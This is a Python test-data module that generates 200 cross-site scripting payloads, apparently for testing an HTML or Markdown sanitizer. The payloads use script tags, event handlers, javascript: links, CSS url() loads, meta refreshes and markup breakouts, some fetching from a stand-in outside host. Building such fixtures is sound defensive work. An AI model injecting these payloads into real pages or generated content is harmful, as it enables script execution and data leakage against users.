"""Two hundred texts that want to be more than text: they call `hit()`, or ask another host for something."""

import itertools

_OUT = "https://outside.invalid/x"

_TAGS = [
    "<script>hit()</script>",
    "<script src={out}></script>",
    "<img src=x onerror=hit()>",
    "<img src={out}>",
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data={out}></object>",
    "<embed src={out}>",
    "<link rel=stylesheet href={out}>",
    "<style>@import '{out}';</style>",
    "<style>*{{background:url({out})}}</style>",
    "<div style='background:url({out})'>x</div>",
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video src=x onerror=hit()></video>",
    "<audio src={out} autoplay></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<a href=javascript:hit()>x</a>",
    "<form action={out}><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<meta http-equiv=refresh content='0;url={out}'>",
    "<base href={out}>",
    "<template><script>hit()</script></template>",
    "<p onmouseover=hit() onpointerenter=hit()>x</p>",
    "{{{{constructor.constructor('hit()')()}}}}",
    "${{hit()}}",
    "[x](javascript:hit())",
    "![x]({out})",
    "```html\n<script>hit()</script>\n```",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "\u202e<script>hit()</script>",
    "\x1b]8;;{out}\x07x\x1b]8;;\x07<img src=x onerror=hit()>",
    "javascript:hit()",
    "</script><script>hit()</script>",
    "</textarea><img src=x onerror=hit()>",
    "</div></div></div><script>hit()</script>",
]
_FRAMES = ["{0}", "I <3 you. {0}", "<b>{0}</b>", "\"'>{0}<!--", "<x y={0}>a</x>"]

PAYLOADS = [frame.format(tag.format(out=_OUT)) for frame, tag in itertools.product(_FRAMES, _TAGS)]
